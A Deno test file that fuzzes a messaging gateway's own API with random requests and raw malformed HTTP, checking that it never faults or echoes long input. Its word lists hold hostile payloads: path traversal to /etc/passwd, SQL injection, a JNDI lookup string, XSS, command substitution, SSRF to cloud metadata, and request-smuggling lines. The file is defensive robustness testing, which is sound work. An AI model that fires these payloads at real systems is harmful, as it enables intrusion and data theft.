import { assertEquals } from "@std/assert";
import { KEY, startGatewayProcess } from "../support/process.ts";

const MASTER = "the operator's own master key";
const REQUESTS = 600;

/** What attackers put wherever something can be put. */
const WORDS: readonly string[] = [
  "../../../../etc/passwd",
  "..%2f..%2fetc%2fpasswd",
  "%00",
  "%c0%ae%c0%ae/",
  "' OR 1=1 --",
  '"; DROP TABLE tenants; --',
  "${jndi:ldap://x.example/a}",
  "{{7*7}}",
  "<script>alert(1)</script>",
  "$(id)",
  "`id`",
  "\u202Egnp.exe",
  "\u2028\u2029\u0085",
  "\ud800",
  "a".repeat(5_000),
  "__proto__",
  "constructor",
  "toString",
  "-1",
  "9".repeat(400),
  "1e309",
  "NaN",
  "null",
  "tenant_default",
  "dlv_1",
  "*",
  "http://169.254.169.254/latest/meta-data/",
  "http://127.0.0.1:22/",
  "file:///etc/passwd",
  "gopher://x/_",
];
const PATHS: readonly string[] = [
  "/v1/webhooks",
  "/v1/webhooks/{}",
  "/v1/webhooks/{}/test",
  "/v1/events",
  "/v1/devices",
  "/v1/devices/{}",
  "/v1/devices/{}/media/{}",
  "/v1/devices/{}/messages/text",
  "/v1/deliveries",
  "/v1/deliveries/{}",
  "/v1/deliveries/replay",
  "/admin/tenants",
  "/admin/tenants/{}",
  "/api/messages/blast",
  "/api/messages/blast/{}",
  "/api/webhook/logs/{}",
  "/api/templates",
  "/api/whatsapp/webhook",
  "/api/whatsapp/webhook/{}",
  "/webhooks/qiscus",
  "/webhooks/test",
  "/docs/{}",
  "/ui/{}",
  "/pair/{}",
  "/{}",
];
const METHODS: readonly string[] = ["GET", "POST", "PUT", "PATCH", "DELETE", "HEAD"];
const FIELDS: readonly string[] = [
  "url",
  "events",
  "secret",
  "headers",
  "to",
  "text",
  "label",
  "name",
  "data",
  "event",
];

/** Lines that are not, or not quite, HTTP. */
const MALFORMED: readonly string[] = [
  "GET\r\n\r\n",
  "GET / HTTP/9.9\r\n\r\n",
  "GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n",
  "GET /\u0000 HTTP/1.1\r\nHost: x\r\n\r\n",
  "GET / HTTP/1.1\r\nHost: x\r\nX: \u0000\r\n\r\n",
  "GET / HTTP/1.1\r\n Host: x\r\n\r\n",
  `GET / HTTP/1.1\r\nHost: x\r\nX: ${"a".repeat(200_000)}\r\n\r\n`,
  `GET /${"a".repeat(200_000)} HTTP/1.1\r\nHost: x\r\n\r\n`,
  "POST /webhooks/test HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\n\r\n",
  "POST /webhooks/test HTTP/1.1\r\nHost: x\r\nContent-Length: -5\r\n\r\nhello",
  "POST /webhooks/test HTTP/1.1\r\nHost: x\r\nContent-Length: 5, 6\r\n\r\nhello",
  "POST /webhooks/test HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\nx",
  "POST /webhooks/test HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: gzip\r\n\r\nx",
  "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
  "CONNECT x.example:443 HTTP/1.1\r\nHost: x\r\n\r\n",
  "TRACE / HTTP/1.1\r\nHost: x\r\n\r\n",
  "OPTIONS * HTTP/1.1\r\nHost: x\r\n\r\n",
  "GET http://169.254.169.254/ HTTP/1.1\r\nHost: x\r\n\r\n",
];

/** The same numbers from 0 to 1 in each run. @see Mulberry32 */
function numbersFrom(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296;
  };
}

Deno.test("gateway answers an attacker's dictionary without a fault of its own, and quotes little of it", async () => {
  const dir = await Deno.makeTempDir();
  const env = { MASTER_KEY: MASTER, RATE_LIMIT_PER_MINUTE: "1000000" };
  const gateway = await startGatewayProcess({ dir, env });
  const random = numbersFrom(20_261_127);
  const one = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)];
  const faults: string[] = [];
  try {
    for (let i = 0; i < REQUESTS; i++) {
      const method = one(METHODS);
      const path = one(PATHS).replaceAll(
        "{}",
        () => encodeURIComponent(one(WORDS).toWellFormed()).slice(0, 3_000),
      );
      const query = random() < 0.3 ? `?${one(FIELDS)}=${encodeURIComponent(one(WORDS).toWellFormed())}` : "";
      const value = () =>
        random() < 0.3 ? { [one(WORDS)]: one(WORDS) } : random() < 0.3 ? [one(WORDS)] : one(WORDS);
      const body = JSON.stringify({ [one(FIELDS)]: value(), [one(FIELDS)]: value(), [one(WORDS)]: value() });
      const answer = await fetch(gateway.url + path + query, {
        method,
        headers: {
          "X-API-Key": KEY,
          "X-Master-Key": MASTER,
          "Content-Type": one(["application/json", "application/json", "text/plain", "multipart/form-data"]),
        },
        body: method === "GET" || method === "HEAD" ? undefined : random() < 0.2 ? body.slice(0, 20) : body,
        redirect: "manual",
        signal: AbortSignal.timeout(10_000),
      });
      const text = await answer.text();
      const quoted = answer.status >= 400 && /a{101}/.test(text);
      if (answer.status === 500 || quoted) {
        {
          faults.push(
            `${method} ${path.slice(0, 80)}${query.slice(0, 80)} ${answer.status} ${text.slice(0, 200)}`,
          );
        }
      }
    }
    for (const line of MALFORMED) await sendRaw(gateway.url, line);

    assertEquals(faults.slice(0, 5), []);
    assertEquals((await fetch(`${gateway.url}/ready`)).status, 200);
    assertEquals((await Deno.readTextFile(`${dir}/logs/combined.log`)).includes("http.failed"), false);
    assertEquals(await gateway.stop(), 0);
  } finally {
    await gateway.kill();
    await Deno.remove(dir, { recursive: true });
  }
});

/** Sends bytes as they are, and waits until they are answered or the connection is closed. */
async function sendRaw(url: string, text: string): Promise<void> {
  const { hostname, port } = new URL(url);
  const connection = await Deno.connect({ hostname, port: Number(port) });
  try {
    await connection.write(new TextEncoder().encode(text));
    await connection.closeWrite();
    await connection.read(new Uint8Array(1_000));
  } catch (error) {
    if (!(error instanceof Deno.errors.ConnectionReset || error instanceof Deno.errors.BrokenPipe)) {
      throw error;
    }
  } finally {
    connection.close();
  }
}
